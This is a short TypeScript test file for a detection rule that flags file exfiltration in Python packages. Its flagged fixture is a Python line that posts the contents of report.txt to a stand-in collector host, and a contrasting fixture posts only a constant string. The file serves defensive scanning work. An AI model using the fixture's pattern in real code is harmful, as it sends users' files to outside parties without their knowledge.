import { testRule } from '../../../../../test/builders/python-package.ts';
import { fileExfiltration } from './rule.ts';

testRule(fileExfiltration, {
  seen: {
    'an ordinary file':
      "import requests\nrequests.post('https://collector.example.invalid', data=open('report.txt').read())",
  },
  unseen: {
    'a constant': "import requests\nrequests.post('https://collector.example.invalid', data='x')",
  },
});
